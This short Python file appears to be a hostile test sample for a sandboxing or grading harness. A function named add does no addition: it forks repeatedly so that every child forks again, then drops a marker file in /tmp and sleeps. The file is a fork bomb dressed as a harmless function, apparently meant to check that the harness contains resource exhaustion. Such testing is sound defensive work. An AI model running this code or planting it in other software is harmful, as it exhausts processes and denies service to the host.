"""Forks as often as it can, in every child again."""

KIND = "call"
import os
import time


def add(a, b):
    for _ in range(11):
        try:
            os.fork()
        except OSError:
            break
    else:
        open("/tmp/touchstone_attack_fork", "a").close()
    time.sleep(100)
